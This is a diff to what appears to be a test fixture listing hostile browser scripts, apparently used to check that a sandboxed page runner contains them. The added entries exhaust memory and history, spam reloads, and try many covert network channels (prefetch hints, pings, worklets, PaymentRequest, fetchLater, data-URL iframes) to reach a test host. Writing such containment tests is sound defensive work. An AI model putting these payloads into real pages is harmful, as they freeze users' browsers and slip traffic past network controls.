@@ -26,6 +26,11 @@ export function hostileScripts(port: number, udpPort: number): readonly HostileS
       name: 'heap',
       script: 'var a = []; setInterval(function () { for (var i = 0; i < 1e5; i++) a.push({ i: i, s: "x" + i }) }, 1)',
     },
+    {
+      name: 'blobs',
+      script: 'for (var i = 0, a = []; i < 100; i++) a.push(URL.createObjectURL(new Blob([new Uint8Array(2e7)])))',
+    },
+    { name: 'no-room-for-text', script: "document.body.append('x'.repeat(1e8))" },
     { name: 'dialogs', script: 'for (var i = 0; i < 1000; i++) { alert(i); confirm(i); prompt(i) }' },
     {
       name: 'unload',
@@ -78,6 +83,23 @@ export function hostileScripts(port: number, udpPort: number): readonly HostileS
     {
       name: 'navigates',
       script: `setInterval(function () { location.href = 'http://${place}/n' + Math.random() }, 1)`,
+    },
+    { name: 'reloads', script: 'setInterval(function () { location.reload(); history.go(0); history.back() }, 1)' },
+    {
+      name: 'rewrites-history',
+      script: "for (var i = 0; ; i++) history.pushState({ a: 'x'.repeat(1e5) }, '', '/x' + i)",
+    },
+    {
+      name: 'hints',
+      script: `document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href="http://${place}"><link rel=prefetch href="http://${place}/p"><link rel=preload as=image href="http://${place}/i"><link rel=manifest href="http://${place}/m">'); var s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"source":"list","urls":["http://${place}/s"]}],"prerender":[{"source":"list","urls":["http://${place}/r"]}]}'; document.head.append(s); var a = document.createElement('a'); a.href = '#x'; a.ping = 'http://${place}/ping'; document.body.append(a); a.click()`,
+    },
+    {
+      name: 'rare-ways-out',
+      script: `[function () { return new AudioContext().audioWorklet.addModule('http://${place}/a.js') }, function () { return CSS.paintWorklet.addModule('http://${place}/c.js') }, function () { return new PaymentRequest([{ supportedMethods: 'http://${place}/pay' }], { total: { label: 'x', amount: { currency: 'THB', value: '1' } } }).show() }, function () { return navigator.credentials.get({ identity: { providers: [{ configURL: 'http://${place}/id.json', clientId: '1' }] } }) }, function () { return fetchLater('http://${place}/later') }, function () { return fetch('http://${place}/alive', { keepalive: true, method: 'POST', mode: 'no-cors' }) }, function () { return new PresentationRequest('http://${place}/show').start() }].forEach(function (way) { try { Promise.resolve(way()).catch(function () {}) } catch (e) {} })`,
+    },
+    {
+      name: 'data-frames',
+      script: `for (var i = 0; i < 50; i++) { var f = document.createElement('iframe'); f.src = 'data:text/html,<script>fetch("http://${place}/d");new WebSocket("ws://${place}/")</' + 'script>'; document.body.append(f) }`,
     },
     {
       name: 'local-files',
